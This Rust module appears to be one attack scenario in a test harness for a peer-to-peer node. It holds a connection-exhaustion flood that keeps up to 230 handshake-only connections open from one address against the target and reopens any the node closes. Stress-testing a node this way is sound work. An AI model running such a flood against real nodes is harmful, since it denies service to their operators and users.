//! More connections from one address than a node takes, of as many peers, that say who they are and nothing
//! else. What is closed is opened again.

use std::time::Duration;

use crate::Victim;
use crate::raw::{Failure, Raw};

const CONNECTIONS: usize = 230;
const PAUSE: Duration = Duration::from_millis(100);

pub(crate) async fn play(victim: &Victim) -> Result<String, Failure> {
    let (mut peers, mut opened, mut refused) = (Vec::new(), 0, 0);
    while !victim.is_over() {
        peers.retain(Raw::is_connected);
        if peers.len() < CONNECTIONS
            && let Ok(peer) = Raw::connect(&victim.address, Vec::new()).await
        {
            peers.push(peer);
            opened += 1;
        } else {
            refused += usize::from(peers.len() < CONNECTIONS);
            victim.rest(PAUSE).await;
        }
    }
    peers.retain(Raw::is_connected);
    Ok(format!("{opened} connections, {refused} refused, {} stand in the end", peers.len()))
}
